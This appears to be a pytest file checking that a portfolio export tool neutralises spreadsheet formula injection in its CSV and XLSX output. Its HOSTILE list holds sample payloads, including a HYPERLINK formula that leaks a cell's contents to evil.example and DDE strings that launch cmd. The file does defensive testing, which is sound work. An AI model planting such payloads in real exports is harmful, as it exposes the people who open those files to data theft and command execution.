"""Finding 4: text cells a spreadsheet would run as formulas are neutralised in CSV and XLSX.

Ids, names and sectors starting with `=`, `+`, `-`, `@` (or a tab then `=`) were written to CSV
as they were, and to XLSX as live formulas (`<f>HYPERLINK("http://…")</f>`, `<f>cmd|' /C
calc'!A0</f>`). Now a CSV cell gets OWASP's leading apostrophe, an XLSX cell is always text
(with Excel's quote-prefix mark), and `--raw-cells` gives scripts the values as they are.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from kamrules.io.cells import formula_like, neutralise
from tests.support import kam

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+2",
    " =1+2",  # after leading whitespace
    "\u00a0@SUM(A1)",  # a no-break space first
    "#N/A",
]


def hostile_portfolio(path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name", "sector", "business.revenue"])
        for k, text in enumerate(HOSTILE):
            writer.writerow([f"A{k}", text, text, 100 + k])
        # The cell's tab-then-= shape survives in an id too (cells are trimmed, ids kept whole).
        writer.writerow(["=2*3", "Plain S.p.A.", "-", 50])
    return path


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", True),
        ("+Acme", True),
        ("-x", True),
        ("@SUM(1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("  =1", True),
        ("\n+cmd", True),
        ("-", True),
        ("-0.05", False),  # a number written as text is a number
        ("+3", False),
        ("-1e5", False),
        ("12%", False),
        ("Rossi = Bianchi", False),
        ("A-1", False),
        ("", False),
    ],
)
def test_the_owasp_rule(text: str, expected: bool) -> None:
    assert formula_like(text) is expected
    assert neutralise(text) == ("'" + text if expected else text)


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("to_file", [False, True])
def test_csv_cells_are_neutralised(tmp_path: Path, to_file: bool) -> None:
    source = hostile_portfolio(tmp_path / "p.csv")
    out = tmp_path / "out.csv"
    args = ["portfolio", str(source), "--as-of", "2026-11-27"]
    result = kam(*args, "--out", str(out)) if to_file else kam(*args, "--format", "csv")
    assert result.exit_code in (0, 1), result.stderr
    rows = _csv_rows(out.read_text(encoding="utf-8-sig") if to_file else result.stdout)
    cells = [row[column] for row in rows for column in row]
    assert not [c for c in cells if formula_like(c)], "a cell a spreadsheet would run"
    names = {row["id"]: row["name"] for row in rows}
    assert names["A0"] == "'" + HOSTILE[0]
    assert names["A5"] == "'=1+2"  # trimmed on reading, then neutralised
    assert names["A7"] == "#N/A"  # not a formula: left as it is
    assert "'=2*3" in names


def test_raw_cells_keeps_the_values_for_scripts(tmp_path: Path) -> None:
    source = hostile_portfolio(tmp_path / "p.csv")
    result = kam("portfolio", str(source), "--as-of", "2026-11-27", "--format", "csv", "--raw-cells")
    rows = _csv_rows(result.stdout)
    assert {row["id"]: row["name"] for row in rows}["A0"] == HOSTILE[0]


@pytest.mark.parametrize("headers", ["labels", "names"])
@pytest.mark.parametrize("raw", [False, True])
def test_xlsx_has_no_formula_ever(tmp_path: Path, raw: bool, headers: str) -> None:
    from openpyxl import load_workbook

    source = hostile_portfolio(tmp_path / "p.csv")
    out = tmp_path / "out.xlsx"
    args = ["--out", str(out), "--xlsx-headers", headers, *(["--raw-cells"] * raw)]
    result = kam("portfolio", str(source), "--as-of", "2026-11-27", *args)
    assert result.exit_code in (0, 1), result.stderr
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode("utf-8") for n in sheets)
    assert len(sheets) == 2  # the accounts, and the columns' key
    assert "<f>" not in xml and "<f " not in xml, "a live formula in the workbook"
    assert 't="e"' not in xml, "an error value where the export had text"
    book = load_workbook(out)
    # Every text cell of both sheets, headers included, passes through io.workbook.text_cell:
    # the value is the export's own; Excel's quote prefix marks what a spreadsheet would run.
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix is (formula_like(cell.value) and not raw), cell.value
    data = book.worksheets[0]
    names = [row[1].value for row in data.iter_rows(min_row=2)]  # the name: second column either way
    assert HOSTILE[0] in names and "#N/A" in names
